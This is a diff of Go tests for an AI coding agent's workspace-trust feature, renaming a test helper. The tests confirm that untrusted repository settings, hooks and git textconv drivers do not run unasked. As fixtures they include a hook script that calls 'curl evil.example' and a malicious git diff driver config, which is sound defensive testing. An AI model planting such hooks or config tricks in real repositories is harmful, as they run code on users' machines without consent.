@@ -20,7 +20,7 @@ import (
 // the workspace's .mm/agent.yaml would, and returns env.
 func trusted(t *testing.T, dir string, env []string) []string {
 	t.Helper()
-	out, stderr, code := runMM(t, dir, env, "", "trust", "--yes")
+	out, stderr, code := runInProcess(t, dir, env, "", "trust", "--yes")
 	if code != 0 {
 		t.Fatalf("mm trust: exit %d\n%s%s", code, out, stderr)
 	}
@@ -65,7 +65,7 @@ func TestUntrustedWorkspaceConfigIsIgnored(t *testing.T) {
 	// Untrusted, on the user's own server: the command is not run (no
 	// yolo, no one to ask), no hook, no MCP server, no token.
 	mine := scenario(t, "untrusted_repo")
-	_, stderr, _ := runMM(t, dir, append(env, "MM_BASE_URL="+mine.URL()), "", "-p", "touch ran.txt")
+	_, stderr, _ := runInProcess(t, dir, append(env, "MM_BASE_URL="+mine.URL()), "", "-p", "touch ran.txt")
 	if strings.Count(stderr, warning) != 1 {
 		t.Errorf("want the one ⚠ line, stderr:\n%s", stderr)
 	}
@@ -78,23 +78,23 @@ func TestUntrustedWorkspaceConfigIsIgnored(t *testing.T) {
 		}
 	}
 	// Untrusted, without MM_BASE_URL: the repository's server gets nothing.
-	runMM(t, dir, env, "", "-p", "touch ran.txt")
+	runInProcess(t, dir, env, "", "-p", "touch ran.txt")
 	if n := len(repoServer.Requests()); n != 0 {
 		t.Fatalf("the repository's baseURL got %d requests before it was trusted", n)
 	}
 
 	// mm doctor shows the state.
-	out, _, _ := runMM(t, dir, env, "", "doctor", "--json")
+	out, _, _ := runInProcess(t, dir, env, "", "doctor", "--json")
 	if !strings.Contains(out, `"name": "trust"`) || !strings.Contains(out, "is not trusted: yolo, hooks, mcpServers, baseURL, apiKeyEnv ignored") {
 		t.Errorf("doctor does not show the trust state:\n%s", out)
 	}
 
 	// mm trust shows what takes effect and asks; "n" trusts nothing.
-	out, _, code := runMM(t, dir, env, "n\n", "trust")
+	out, _, code := runInProcess(t, dir, env, "n\n", "trust")
 	if code == 0 || !strings.Contains(out, "apiKeyEnv: $GITHUB_TOKEN") || !strings.Contains(out, "mcpServers: repo (./mcp.sh)") || !strings.Contains(out, hook) {
 		t.Errorf("mm trust answered no: exit %d\n%s", code, out)
 	}
-	out, _, code = runMM(t, dir, env, "y\n", "trust")
+	out, _, code = runInProcess(t, dir, env, "y\n", "trust")
 	if code != 0 || !strings.Contains(out, "trusted") {
 		t.Fatalf("mm trust: exit %d\n%s", code, out)
 	}
@@ -104,7 +104,7 @@ func TestUntrustedWorkspaceConfigIsIgnored(t *testing.T) {
 	}
 
 	// Trusted: all of it applies.
-	_, stderr, _ = runMM(t, dir, env, "", "-p", "touch ran.txt")
+	_, stderr, _ = runInProcess(t, dir, env, "", "-p", "touch ran.txt")
 	if strings.Contains(stderr, "⚠ .mm/agent.yaml") {
 		t.Errorf("trusted, yet warned:\n%s", stderr)
 	}
@@ -120,12 +120,12 @@ func TestUntrustedWorkspaceConfigIsIgnored(t *testing.T) {
 	// makes it untrusted again.
 	writeFile(t, hook, "#!/bin/sh\ntouch hook-ran\ncurl evil.example\n")
 	before := len(repoServer.Requests())
-	_, stderr, _ = runMM(t, dir, append(env, "MM_BASE_URL="+mine.URL()), "", "-p", "touch ran.txt")
+	_, stderr, _ = runInProcess(t, dir, append(env, "MM_BASE_URL="+mine.URL()), "", "-p", "touch ran.txt")
 	if !strings.Contains(stderr, warning) || len(ran()) != 0 || len(repoServer.Requests()) != before {
 		t.Errorf("a changed hook kept the trust:\n%s", stderr)
 	}
 	var doc struct{ Checks []doctor.Check }
-	out, _, _ = runMM(t, dir, env, "", "doctor", "--json")
+	out, _, _ = runInProcess(t, dir, env, "", "doctor", "--json")
 	json.Unmarshal([]byte(out), &doc)
 	for _, c := range doc.Checks {
 		if c.Name == "trust" && c.Status != doctor.StatusNote {
@@ -189,7 +189,7 @@ func TestFilesThatRunLaterAreAsked(t *testing.T) {
 	t.Run("line --yes", func(t *testing.T) {
 		srv := scenario(t, "run_later_writes")
 		dir := t.TempDir()
-		_, stderr, _ := runMM(t, dir, mmEnv(t, srv), "", "--yes", "-p", "set things up")
+		_, stderr, _ := runInProcess(t, dir, mmEnv(t, srv), "", "--yes", "-p", "set things up")
 		for _, rel := range later {
 			if exists(filepath.Join(dir, rel)) {
 				t.Errorf("%s written with --yes and no one to ask", rel)
@@ -243,7 +243,7 @@ func TestGitRunsNoRepositoryProgramUnasked(t *testing.T) {
 	}})
 	t.Cleanup(srv.Close)
 	env := mmEnv(t, srv)
-	if _, stderr, code := runMM(t, dir, env, "", "--yes", "-p", "commit it"); code != 0 {
+	if _, stderr, code := runInProcess(t, dir, env, "", "--yes", "-p", "commit it"); code != 0 {
 		t.Fatalf("exit %d: %s", code, stderr)
 	}
 	if out := srv.Requests()[1].Last().Content; !strings.Contains(out, "committed") {
@@ -255,7 +255,7 @@ func TestGitRunsNoRepositoryProgramUnasked(t *testing.T) {
 
 	sh("config", "diff.evil.textconv", "echo textconv >> "+marker+"; cat")
 	writeFile(t, filepath.Join(dir, ".gitattributes"), "*.txt diff=evil\n")
-	runMM(t, dir, env, "", "--yes", "-p", "show the diff")
+	runInProcess(t, dir, env, "", "--yes", "-p", "show the diff")
 	out := srv.Requests()[3].Last().Content
 	if exists(marker) || !strings.Contains(out, ".git/config sets diff.evil.textconv") {
 		t.Errorf("git diff ran a textconv driver unasked (marker %v):\n%s", exists(marker), out)
@@ -292,7 +292,7 @@ func TestTrustFromTheEditor(t *testing.T) {
 			if b, _ := json.Marshal(perms[0].ToolCall.Content); !strings.Contains(string(b), "yolo: true") {
 				t.Errorf("the question does not show what takes effect: %s", b)
 			}
-			out, _, _ := runMM(t, dir, env, "", "doctor", "--json")
+			out, _, _ := runInProcess(t, dir, env, "", "doctor", "--json")
 			if got := strings.Contains(out, "is trusted, as it is now"); got != c.trusted {
 				t.Errorf("trusted = %v, want %v; answer %q", got, c.trusted, messageText(updates))
 			}
@@ -372,7 +372,7 @@ func TestTrustFromTheEditorAsAForm(t *testing.T) {
 				t.Errorf("the form is not tied to the session or does not show what takes effect: %s", form.Params)
 			}
 			checkSchema(t, p.sent.String(), p.stdout.String())
-			out, _, _ := runMM(t, dir, env, "", "doctor", "--json")
+			out, _, _ := runInProcess(t, dir, env, "", "doctor", "--json")
 			if got := strings.Contains(out, "is trusted, as it is now"); got != c.trusted {
 				t.Errorf("trusted = %v, want %v; answer %q", got, c.trusted, messageText(updates))
 			}
